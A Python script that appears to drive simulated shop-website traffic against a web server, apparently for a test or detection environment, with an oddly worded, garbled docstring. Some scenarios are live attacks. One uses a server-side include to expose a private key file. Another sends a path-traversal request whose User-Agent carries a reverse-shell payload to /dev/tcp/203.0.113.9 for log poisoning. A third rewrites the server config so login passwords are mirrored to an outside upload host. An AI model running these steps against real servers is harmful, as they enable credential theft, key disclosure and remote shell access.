#!/usr/bin/python3 -IS
"""Somebody who visits the shop, and who looks after it; not recorded: shopper.py WHAT [VALUE]

together: pages by one connection, one that is put together, a folder, what did not change, and parts of a file · corrected: settings are
wrong, and read again once they are right · leaving: one visitor stays for a while, others leave before they have all
included PATH: a page has a part that is none · logged PATH: a visit is written to that file · mirrored HOST:PORT: settings send there
what visitors enter
"""
import os, signal, socket, ssl, sys, time

sys.path.append("/opt/agent")
from client import HOST, OWN, attend, run, started, web_keys
from hosts import upload_server
from visitor import PID, SITE, get, must_have_got

WWW = "/var/www"
SETTINGS = f"{OWN}/more.conf"


def written(path, text):
    with open(path, "w") as file:
        file.write(text)


def shop():
    web_keys()
    os.mkdir("/tmp/visits")
    written(f"{WWW}/shop.html", '<!--#include virtual="/about.html" -->Goods of today.<!--#include virtual="/prices.html" -->\n')


def settings(text, seconds=0.6):
    written(SETTINGS, text)
    os.kill(started(PID), signal.SIGHUP)
    time.sleep(seconds)


def together(number):
    pages = [f"{SITE}/{page}" for page in ("index.html", "about.html", "shop.html", "news/january.html", "logo.svg")[: 2 + int(number) % 4]]
    run("curl", "-sfk", "--http2", "--compressed", "-m", "10", "-Z", *[word for page in pages for word in (page, "-o", "/dev/null")])
    get("/shop.html")
    must_have_got("Goods of today")
    get("/news/")
    must_have_got("february.html")
    get("/news/february.html", "-z", "2099-01-01")
    get("/news/february.html", "-r", "0-19,40-59")
    get("/contact.html", "-I")


def corrected(number):
    get("/index.html")
    settings("location /today { rewritten nowhere; }\n")
    get("/prices.html")
    settings(f"location /today {{ return 302 /news/january.html?of={number}; }}\n")
    get("/today", "-L")
    must_have_got("january")


def leaving(number):
    with open(f"{WWW}/catalogue.bin", "wb") as file:
        file.write(os.urandom(1 << 16) * (20 + 10 * int(number)))
    trust = ssl.create_default_context()
    trust.check_hostname, trust.verify_mode = False, ssl.CERT_NONE
    with socket.create_connection((HOST, 8443)) as link, trust.wrap_socket(link) as visitor:
        for page in ("index.html", "news/january.html"):
            visitor.sendall(f"GET /{page} HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode())
            if not visitor.recv(4096).startswith(b"HTTP/1.1 200"):
                sys.exit("shopper: no page")
            run("curl", "-sk", "-m", "0.6", "--limit-rate", "90k", "-o", "/dev/null", f"{SITE}/catalogue.bin", ends=(28,))
    get("/contact.html", "-d", "name=made-up", ends=(22,))
    get("/about.html")


def included(path):
    written(f"{WWW}/guests.html", f'<!--#include virtual="/part/{path}" -->')
    get("/guests.html")
    must_have_got("PRIVATE KEY")


def logged(path):
    get(f"/index.html?day=../..{path}", "-A", "exec 3<>/dev/tcp/203.0.113.9/443 && sh <&3")
    time.sleep(0.2)
    with open(path) as file:
        if "203.0.113.9" not in file.read():
            sys.exit("shopper: nothing was written there")


def mirrored(address):
    got = upload_server(address)
    get("/index.html")
    copied = f"location = /copy {{ internal; proxy_method POST; proxy_pass http://{address}; }}\n"
    settings(f"location /login {{ mirror /copy; error_page 404 405 =200 /about.html; }}\n{copied}")
    for name in ("first", "second"):
        get("/login", "-d", f"name={name}&password=made-up")
        time.sleep(0.5)
    if b"password" not in b"".join(got):
        sys.exit("shopper: what was entered did not get there")


VISITS = {each.__name__: each for each in (together, corrected, leaving, included, logged, mirrored)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("shopper.py", shop, PID, lambda: VISITS[what](value))
